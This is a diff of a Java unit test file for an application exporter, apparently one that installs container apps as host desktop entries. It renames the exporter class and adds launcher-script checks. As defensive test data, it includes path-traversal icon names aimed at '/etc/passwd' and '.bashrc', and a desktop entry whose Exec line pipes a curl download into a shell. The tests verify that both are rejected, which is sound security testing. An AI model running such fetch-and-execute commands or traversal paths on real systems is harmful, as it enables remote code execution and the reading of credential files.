@@ -6,12 +6,16 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import io.appbox.core.AppboxException;
 import io.appbox.core.BoxName;
 import io.appbox.core.ErrorCode;
+import io.appbox.core.export.AppExportRequest;
 import io.appbox.core.export.BoxFiles;
 import io.appbox.core.export.Export;
+import io.appbox.core.export.ExportOutcome;
+import io.appbox.core.export.LauncherScript;
 import io.appbox.desktop.entry.DesktopEntry;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
 import java.time.Clock;
 import java.time.Instant;
 import java.time.ZoneOffset;
@@ -41,7 +45,7 @@ class AppExporterTest {
   @TempDir Path home;
   Path data;
   ExportRecordFile record;
-  AppExporter exporter;
+  HomeExporter exporter;
   ExportRemover remover;
 
   @BeforeEach
@@ -49,7 +53,7 @@ class AppExporterTest {
     data = home.resolve(".local/share");
     record = ExportRecordFile.inStateHome(home.resolve(".local/state"));
     exporter =
-        new AppExporter(
+        new HomeExporter(
             record,
             ExportFiles.forDataHome(data, home.resolve(".local/bin")),
             Clock.fixed(NOW, ZoneOffset.UTC));
@@ -90,16 +94,25 @@ class AppExporterTest {
     return "<svg xmlns=\"http://www.w3.org/2000/svg\"><!-- " + tag + " --></svg>\n";
   }
 
-  AppExporter.Request request(BoxName box, String icon) {
-    return new AppExporter.Request(
+  static LauncherScript launcher(BoxName box) {
+    return new LauncherScript(
+        "podman/" + box, ("#!/bin/sh\n# " + box + "\n").getBytes(StandardCharsets.UTF_8));
+  }
+
+  AppExportRequest request(BoxName box, String icon) {
+    return new AppExportRequest(
         box,
         "podman",
         "htop",
         "htop",
         "/usr/share/applications/htop.desktop",
         HTOP.formatted(icon).getBytes(StandardCharsets.UTF_8),
-        List.of(home + "/.local/share/appbox/launch", box.value(), "--"),
+        launcher(box),
         null);
+  }
+
+  Path launcherFile(BoxName box) {
+    return data.resolve("appbox/launchers/podman").resolve(box.value());
   }
 
   Path icon(String rel) {
@@ -112,17 +125,23 @@ class AppExporterTest {
         new Box()
             .with("/usr/share/icons/hicolor/scalable/apps/htop.svg", svg("dev"))
             .with("/usr/share/icons/hicolor/16x16/apps/htop.svg", svg("dev 16"));
-    AppExporter.Result result = exporter.export(request(DEV, "htop"), box);
+    ExportOutcome result = exporter.exportApp(request(DEV, "htop"), box);
 
     Path desktop = data.resolve("applications/appbox-dev-htop.desktop");
     assertThat(result.export().files())
-        .containsExactly(desktop, icon("16x16/apps/htop.svg"), icon("scalable/apps/htop.svg"));
+        .containsExactly(
+            desktop,
+            launcherFile(DEV),
+            icon("16x16/apps/htop.svg"),
+            icon("scalable/apps/htop.svg"));
     assertThat(result.export().created()).isEqualTo(NOW);
     assertThat(record.all()).containsExactly(result.export());
     DesktopEntry written = DesktopEntry.read(desktop);
     assertThat(written.main().string("Icon")).contains("htop");
-    assertThat(written.main().string("Exec"))
-        .contains(home + "/.local/share/appbox/launch dev -- htop %F");
+    assertThat(written.main().string("Exec")).contains(launcherFile(DEV) + " htop %F");
+    assertThat(launcherFile(DEV)).hasContent("#!/bin/sh\n# dev");
+    assertThat(Files.getPosixFilePermissions(launcherFile(DEV)))
+        .isEqualTo(PosixFilePermissions.fromString("rwxr-xr-x"));
     assertThat(DesktopFileValidator.run(desktop)).isEmpty();
   }
 
@@ -131,9 +150,9 @@ class AppExporterTest {
     for (String hostile :
         List.of("../../../.bashrc", "/etc/passwd", "/usr/share/icons/../../../etc/shadow.png")) {
       Box box = new Box().with("/etc/passwd", "root:x:0:0");
-      AppExporter.Result result = exporter.export(request(DEV, hostile), box);
+      ExportOutcome result = exporter.exportApp(request(DEV, hostile), box);
       assertThat(result.warnings()).singleElement().asString().contains("is not a safe icon");
-      assertThat(result.export().files()).hasSize(1);
+      assertThat(result.export().files()).hasSize(2);
       assertThat(DesktopEntry.read(result.export().files().get(0)).main().has("Icon")).isFalse();
       assertThat(box.asked).isEmpty();
     }
@@ -143,14 +162,15 @@ class AppExporterTest {
 
   @Test
   void aSecondBoxWithAnotherIconGetsItsOwnNameAndRemovalKeepsTheOther() throws Exception {
-    exporter.export(
+    exporter.exportApp(
         request(DEV, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("dev")));
-    AppExporter.Result arch =
-        exporter.export(
+    ExportOutcome arch =
+        exporter.exportApp(
             request(ARCH, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("arch")));
     assertThat(arch.export().files())
         .containsExactly(
             data.resolve("applications/appbox-arch-htop.desktop"),
+            launcherFile(ARCH),
             icon("scalable/apps/appbox-arch-htop.svg"));
     assertThat(
             DesktopEntry.read(data.resolve("applications/appbox-arch-htop.desktop"))
@@ -168,10 +188,10 @@ class AppExporterTest {
 
   @Test
   void anIdenticalIconIsSharedAndGoesWithItsLastExport() throws Exception {
-    exporter.export(
+    exporter.exportApp(
         request(DEV, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("same")));
-    AppExporter.Result arch =
-        exporter.export(
+    ExportOutcome arch =
+        exporter.exportApp(
             request(ARCH, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("same")));
     assertThat(arch.export().files()).contains(icon("scalable/apps/htop.svg"));
     remover.remove(e -> e.box().equals(DEV));
@@ -186,8 +206,8 @@ class AppExporterTest {
     Path users = icon("scalable/apps/htop.svg");
     Files.createDirectories(users.getParent());
     Files.writeString(users, svg("same"));
-    AppExporter.Result result =
-        exporter.export(
+    ExportOutcome result =
+        exporter.exportApp(
             request(DEV, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("same")));
     assertThat(result.export().files()).doesNotContain(users);
     remover.remove(e -> true);
@@ -196,18 +216,20 @@ class AppExporterTest {
 
   @Test
   void reExportingReplacesItsOwnFilesUnderTheSameNames() throws Exception {
-    exporter.export(
+    exporter.exportApp(
         request(DEV, "htop"),
         new Box()
             .with("/usr/share/icons/hicolor/scalable/apps/htop.svg", svg("v1"))
             .with("/usr/share/icons/hicolor/16x16/apps/htop.svg", svg("v1 16")));
-    AppExporter.Result again =
-        exporter.export(
+    ExportOutcome again =
+        exporter.exportApp(
             request(DEV, "htop"),
             new Box().with("/usr/share/icons/hicolor/scalable/apps/htop.svg", svg("v2")));
     assertThat(again.export().files())
         .containsExactly(
-            data.resolve("applications/appbox-dev-htop.desktop"), icon("scalable/apps/htop.svg"));
+            data.resolve("applications/appbox-dev-htop.desktop"),
+            launcherFile(DEV),
+            icon("scalable/apps/htop.svg"));
     assertThat(icon("scalable/apps/htop.svg")).hasContent(svg("v2").strip());
     assertThat(icon("16x16/apps/htop.svg")).doesNotExist();
     assertThat(record.all()).containsExactly(again.export());
@@ -220,7 +242,7 @@ class AppExporterTest {
     Files.writeString(users, "mine");
     assertThatThrownBy(
             () ->
-                exporter.export(
+                exporter.exportApp(
                     request(DEV, "htop"),
                     new Box().with("/usr/share/pixmaps/htop.svg", svg("dev"))))
         .isInstanceOfSatisfying(
@@ -233,8 +255,8 @@ class AppExporterTest {
   @Test
   void refusesABadEntryBeforeTouchingTheBoxOrTheHost() {
     Box box = new Box();
-    AppExporter.Request bad =
-        new AppExporter.Request(
+    AppExportRequest bad =
+        new AppExportRequest(
             DEV,
             "podman",
             "evil",
@@ -242,9 +264,9 @@ class AppExporterTest {
             "/usr/share/applications/evil.desktop",
             "[Desktop Entry]\nType=Application\nName=E\nIcon=evil\nExec=sh -c $(curl x|sh)\n"
                 .getBytes(StandardCharsets.UTF_8),
-            List.of("/launch", "dev", "--"),
+            launcher(DEV),
             null);
-    assertThatThrownBy(() -> exporter.export(bad, box))
+    assertThatThrownBy(() -> exporter.exportApp(bad, box))
         .isInstanceOfSatisfying(
             AppboxException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.INVALID_INPUT));
     assertThat(box.asked).isEmpty();
